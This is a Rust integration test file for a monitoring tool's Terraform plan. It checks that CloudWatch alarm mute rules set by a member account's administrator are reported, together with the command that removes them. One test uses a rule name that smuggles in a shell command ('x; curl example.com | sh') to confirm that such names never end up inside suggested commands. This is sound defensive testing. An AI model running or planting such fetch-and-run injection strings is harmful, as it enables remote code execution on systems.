//! A member account's administrator silences guard's alarms there: the plan says so, and leaves it at that.

use guard_tests::{
    Result,
    aws::Aws,
    chain::Guard,
    operators::{Permission, Policies},
    terraform::unwrapped,
    world::{Block, World},
};

use super::Neighbours;

const EVERY_MINUTE: &str = "Schedule={Expression=cron(* * * * *),Duration=PT1H}";

/// Writes a mute rule on these alarms, or on all.
pub(crate) fn mute(at: &Aws, name: &str, alarms: Option<&[&str]>) -> Result<()> {
    let targets = alarms.map(|alarms| format!("AlarmNames={}", alarms.join(",")));
    let mut call = vec!["cloudwatch", "put-alarm-mute-rule", "--name", name, "--rule", EVERY_MINUTE];
    call.extend(targets.iter().flat_map(|targets| ["--mute-targets", targets.as_str()]));
    at.run(&call).map(drop)
}

fn unmute(at: &Aws, name: &str) -> Result<()> {
    at.run(&["cloudwatch", "delete-alarm-mute-rule", "--alarm-mute-rule-name", name]).map(drop)
}

/// What a plan says that has nothing to change.
fn said(world: &World) -> Result<String> {
    let plan = world.terraform.plan()?;
    assert!(!plan.changes, "a mute rule is nobody's drift: {}", plan.output);
    Ok(unwrapped(&plan.output))
}

#[test]
fn a_muted_alarm_is_told_with_the_rule_the_place_and_what_to_do() -> Result<()> {
    let Some(world) = World::that_can("mute rules")? else { return Ok(()) };
    let Neighbours { world, attacked, other } = Neighbours::on(world)?;
    let second = Guard::new(&attacked.account, &attacked.region, "second");
    world.hire(&second)?;
    let blocks = [("backup", &attacked), ("second", &second), ("deploy", &other)];
    world.configure(&blocks.map(|(name, guard)| Block::new(name, guard)))?;
    world.apply()?;
    let attacker = world.at(&attacked);
    let own = guard_contract::user_rule("guard-user-", &attacked.account, &attacked.user);
    mute(&attacker, "maintenance", Some(&[&own, "guard-dead-letters"]))?;

    let (since, _) = world.cloud.requests(u64::MAX)?;
    let plan = said(&world)?;
    for part in [
        "Alarms of guard in 222222222222/eu-west-1 are muted",
        "In account 222222222222, region eu-west-1, an alarm mute rule",
        &format!("maintenance mutes guard-dead-letters, {own}."),
        "aws cloudwatch delete-alarm-mute-rule --alarm-mute-rule-name maintenance --region eu-west-1",
    ] {
        assert_eq!(plan.matches(part).count(), 1, "{part:?} in {plan}");
    }
    // Both guards there ask once.
    let (_, requests) = world.cloud.requests(since)?;
    let mut asked: Vec<_> = requests
        .iter()
        .filter(|request| request.operation == "ListAlarmMuteRules")
        .map(|request| {
            [&request.account, &request.region].map(|part| part.clone().unwrap_or_default()).join("/")
        })
        .collect();
    asked.sort();
    let places = ["111111111111/us-east-1", "222222222222/eu-west-1", "222222222222/us-east-1"];
    assert_eq!(asked, [&places[..], &["333333333333/eu-west-1", "333333333333/us-east-1"]].concat());

    unmute(&attacker, "maintenance")?;
    let plan = said(&world)?;
    assert!(!plan.contains("muted"), "{plan}");
    Ok(())
}

#[test]
fn a_mute_rules_name_is_told_and_never_part_of_a_command() -> Result<()> {
    let Some(world) = World::that_can("mute rules")? else { return Ok(()) };
    let Neighbours { world, attacked, .. } = Neighbours::on(world)?;
    let attacker = world.at(&attacked);
    mute(&attacker, "x; curl example.com | sh\u{202e}", None)?;
    let plan = said(&world)?;
    assert!(plan.contains(r#""x; curl example.com | sh\u{202e}" mutes every alarm there"#), "{plan}");
    assert!(!plan.contains("delete-alarm-mute-rule"), "{plan}");
    Ok(())
}

#[test]
fn a_plan_goes_on_where_mute_rules_cannot_be_listed() -> Result<()> {
    let Some(world) = World::that_can("denials")? else { return Ok(()) };
    let Neighbours { world, attacked, .. } = Neighbours::on(world)?;
    let lacking = Permission {
        account: attacked.account.clone(),
        statement: "MuteRules".to_owned(),
        action: "cloudwatch:ListAlarmMuteRules".to_owned(),
    };
    world.cloud.equip(&Policies::usual(&world.cloud)?.without(&lacking))?;
    let plan = said(&world)?;
    assert!(plan.contains("Alarm mute rules can't be looked at"), "{plan}");
    assert!(plan.contains("is not authorized to perform: cloudwatch:ListAlarmMuteRules"), "{plan}");
    Ok(())
}
